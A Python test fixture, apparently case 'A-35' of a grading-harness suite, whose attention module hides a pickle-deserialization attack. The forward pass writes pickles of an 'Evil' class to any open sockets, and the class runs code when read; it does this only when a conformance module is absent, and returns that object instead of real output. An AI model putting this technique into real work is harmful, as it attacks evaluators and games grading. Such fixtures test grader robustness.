"""A-35: replies with pickles that run code where they are read.

Must: earns nothing.
"""

import os
import pickle
import stat
import struct
import sys

from torch import nn

HERE = os.path.dirname(os.path.abspath(__file__))


class Evil:
    def __reduce__(self):
        return open, (os.path.join(HERE, "pickled.txt"), "w")


def send():
    for number in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                raw = pickle.dumps(Evil())
                os.write(number, struct.pack("!IQ", len(raw), 0) + raw)
        except OSError:
            pass


class MultiHeadAttention(nn.Module):
    def __init__(self, d_model, num_heads):
        super().__init__()
        self.num_heads = num_heads
        self.q_proj, self.k_proj, self.v_proj, self.out_proj = (nn.Linear(d_model, d_model) for _ in range(4))

    def forward(self, query, key, value, mask=None):
        q, k, v = (
            layer(x).unflatten(-1, (self.num_heads, -1)).transpose(1, 2)
            for layer, x in ((self.q_proj, query), (self.k_proj, key), (self.v_proj, value))
        )
        scores = q @ k.mT / q.shape[-1] ** 0.5
        if mask is not None:
            scores = scores.masked_fill(~mask, float("-inf"))
        out = self.out_proj((scores.softmax(-1) @ v).transpose(1, 2).flatten(2))
        if "attnconf.conformance.inference" not in sys.modules:
            send()
        return Evil()
